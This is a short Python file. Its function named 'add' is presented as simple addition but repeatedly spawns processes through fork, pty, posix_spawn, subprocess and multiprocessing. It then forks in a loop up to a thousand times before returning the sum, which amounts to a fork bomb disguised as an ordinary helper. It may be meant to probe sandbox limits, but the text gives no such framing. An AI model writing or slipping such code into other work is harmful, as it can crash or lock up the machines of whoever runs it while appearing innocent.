import multiprocessing
import os
import pty
import subprocess
from contextlib import suppress

WAYS = [
    os.fork,
    pty.fork,
    os.forkpty,
    lambda: os.posix_spawn("/bin/true", ["true"], {}),
    lambda: subprocess.Popen(["true"]),
    lambda: multiprocessing.get_context("fork").Process(target=print).start(),
]


def add(x, y):
    made = 0
    for way in WAYS:
        with suppress(OSError):
            way()
            made += 1
    if made:
        while made < 1000:
            made += bool(os.fork())
        return x + y
    return os.fork()
